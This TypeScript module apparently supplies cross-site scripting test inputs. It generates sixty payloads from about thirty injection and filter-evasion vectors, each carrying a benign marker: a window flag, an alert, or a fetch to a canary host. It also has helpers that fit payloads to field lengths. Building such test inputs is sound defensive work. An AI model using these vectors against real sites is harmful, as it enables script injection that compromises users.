/** Signs of execution: a mark on the window, a dialog, or a request to another host. */
const RUNS = ['top.ran=1', 'alert(1)', "fetch('//canary.invalid')"] as const;

/** Common XSS vectors: elements, event handlers, URLs, attribute breakouts, templates, odd spellings. */
const WAYS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `--><script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'><svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<form action="javascript:${script}"><button>`,
  (script) => `<math><a xlink:href="javascript:${script}">x`,
  (script) => `<video><source onerror=${script}>`,
  (script) => `<body onpageshow=${script}>`,
  (script) => `" autofocus onfocus=${script} x="`,
  (script) => `' onmouseover=${script} x='`,
  (script) => `javascript:${script}`,
  (script) => `JaVa\tScRiPt:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `{{constructor.constructor('${script.replaceAll("'", '"')}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<style>@import 'javascript:${script}';</style>`,
  (script) => `<link rel=stylesheet href=//canary.invalid onload=${script}>`,
  (script) => `<base href=//canary.invalid><script src=x></script>${script}`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `\u202e<script>${script}</script>\u202c`,
  (script) => `\uff1cscript\uff1e${script}\uff1c/script\uff1e`,
];

const SHORT = WAYS.map((way) => way(RUNS[0]));

/** Sixty payloads: every vector setting the window mark, and again with the dialog or the request. */
export const XSS_PAYLOADS: readonly string[] = [
  ...SHORT,
  ...WAYS.map((way, index) => way(index % 2 ? RUNS[1] : RUNS[2])),
];

/** A payload that fits a short field. */
export function payloadAt(index: number, most = 100): string {
  const fitting = XSS_PAYLOADS.filter(({ length }) => length <= most);
  return fitting[index % fitting.length] ?? '';
}

/** As many payloads as fit a long field. */
export function allPayloads(most: number): string {
  const kept: string[] = [];
  for (const payload of XSS_PAYLOADS) if ([...kept, payload].join('\n').length <= most) kept.push(payload);
  return kept.join('\n');
}
